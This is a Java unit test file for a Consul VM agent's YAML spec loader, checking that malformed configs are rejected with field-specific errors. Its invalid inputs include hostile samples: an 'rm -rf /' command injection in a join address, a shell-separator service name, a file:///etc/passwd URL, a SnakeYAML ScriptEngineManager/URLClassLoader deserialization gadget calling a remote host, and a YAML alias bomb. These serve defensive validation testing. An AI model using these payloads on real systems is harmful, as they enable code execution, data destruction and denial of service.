package dev.consulvmagent.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SpecLoaderTest {
  private static AgentSpec parse(String yaml) {
    return new SpecLoader().parse(yaml.getBytes(StandardCharsets.UTF_8));
  }

  private static final String CLIENT = "consul:\n  role: client\n  retry_join: [192.0.2.10]\n";

  @Test
  void load_shippedExamples_areValid() {
    for (String f : new String[] {"consul-server", "dashboard", "counting"}) {
      AgentSpec s = new SpecLoader().load(Path.of("examples", f + ".yaml"));
      assertThat(s.consul().version()).isEqualTo("1.16.6");
    }
    AgentSpec dash = new SpecLoader().load(Path.of("examples/dashboard.yaml"));
    assertThat(dash.service().orElseThrow().mesh().name()).isEqualTo("dashboard");
    assertThat(dash.service().orElseThrow().mesh().tags()).containsExactly("demo", "web");
    assertThat(dash.app().orElseThrow().environment()).containsEntry("PORT", "9002");
  }

  @Test
  void parse_minimalClient_usesDefaults() {
    AgentSpec s = parse(CLIENT);
    assertThat(s.consul().role()).isEqualTo(ConsulSpec.Role.CLIENT);
    assertThat(s.consul().datacenter()).isEqualTo("dc1");
    assertThat(s.envoy().version()).isEqualTo(SpecLoader.DEFAULT_ENVOY_VERSION);
    assertThat(s.downloads().verifySignatures()).isTrue();
  }

  @Test
  void parse_secrets_areRedactedInToString() {
    AgentSpec s = parse(CLIENT + "  encrypt: pUqJrVyVRj5jsiYEkM/tFQYfWyJIv4s3XkvDwy7Cu5s=\n");
    assertThat(s.consul().encrypt().orElseThrow().toString()).isEqualTo("(sensitive)");
    assertThat(s.toString()).doesNotContain("pUqJrVyV");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          unknown top-level key       | consul: {role: server}\\nconsol: 1                          | consol
          unknown nested key          | consul: {role: server, datacentre: dc1}                   | consul.datacentre
          wrong role                  | consul: {role: leader}                                     | consul.role
          join interval below 1s      | consul: {role: client, retry_join: [192.0.2.10], retry_interval: 500ms} | consul.retry_interval
          join interval above 1h      | consul: {role: client, retry_join: [192.0.2.10], retry_interval: 61m}   | consul.retry_interval
          join interval not a duration | consul: {role: client, retry_join: [192.0.2.10], retry_interval: soon} | consul.retry_interval
          bad bind address            | consul: {role: server, bind_addr: 300.1.1.1}              | consul.bind_addr
          shell in join               | consul: {role: client, retry_join: ['10.0.0.1; rm -rf /']} | consul.retry_join[0]
          client without join         | consul: {role: client}                                     | consul.retry_join
          port out of range           | consul: {role: server}\\nenvoy: {admin_port: 70000}        | envoy.admin_port
          port not a number           | consul: {role: server}\\nenvoy: {admin_port: lots}         | envoy.admin_port
          bad version                 | consul: {role: server, version: latest}                   | consul.version
          incompatible envoy          | consul: {role: server}\\nenvoy: {version: 1.30.1}          | envoy.version
          bad service name            | consul: {role: server}\\nservice: {name: 'web;ls', port: 80} | service.name
          app without digest          | consul: {role: server}\\napp: {name: web, url: 'https://x.example/web.zip'} | app.sha256
          app url not http            | consul: {role: server}\\napp: {name: web, url: 'file:///etc/passwd', sha256: 0000000000000000000000000000000000000000000000000000000000000000} | app.url
          bad dns mode                | consul: {role: server}\\ndns: {mode: magic}               | dns.mode
          bool as string              | consul: {role: server, ui: 'yes please'}                  | consul.ui
          java tag                    | consul: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://192.0.2.1/']]]] | Global tag is not allowed
          custom tag                  | consul: {role: !Ref server}                                | consul.role
          not a mapping               | - consul                                                   | config
          encrypt not base64          | consul: {role: server, encrypt: 'not a key!'}             | consul.encrypt
          reserved extra key          | consul: {role: server, extra_config: {encrypt: abc}}      | consul.extra_config.encrypt
          annotation bool             | consul: {role: server}\\nservice: {annotations: {consul.hashicorp.com/connect-service: web, consul.hashicorp.com/connect-service-port: '80', consul.hashicorp.com/transparent-proxy: 'maybe'}} | consul.hashicorp.com/transparent-proxy
          """)
  void parse_brokenInput_namesTheField(String name, String yaml, String field) {
    assertThatThrownBy(() -> parse(yaml.replace("\\n", "\n")))
        .isInstanceOf(SpecException.class)
        .hasMessageContaining(field);
  }

  @Test
  void parse_errorsCarryLineNumbers() {
    assertThatThrownBy(() -> parse("consul:\n  role: server\n  datacentre: dc1\n"))
        .isInstanceOf(SpecException.class)
        .hasMessageStartingWith("consul.datacentre (line 3)");
  }

  @Test
  void parse_emptyGarbageAndHugeInput_areRejected() {
    assertThatThrownBy(() -> parse("")).hasMessageContaining("empty");
    assertThatThrownBy(() -> new SpecLoader().parse(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1, 2}))
        .hasMessageContaining("UTF-8");
    assertThatThrownBy(() -> parse("consul: [unclosed")).hasMessageContaining("YAML syntax error");
    assertThatThrownBy(() -> new SpecLoader().parse(new byte[SpecLoader.MAX_BYTES + 1]))
        .hasMessageContaining("larger than 1 MiB");
    String bomb =
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
            + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n"
            + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
            + "d: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
    assertThatThrownBy(() -> parse(bomb)).isInstanceOf(SpecException.class);
  }
}
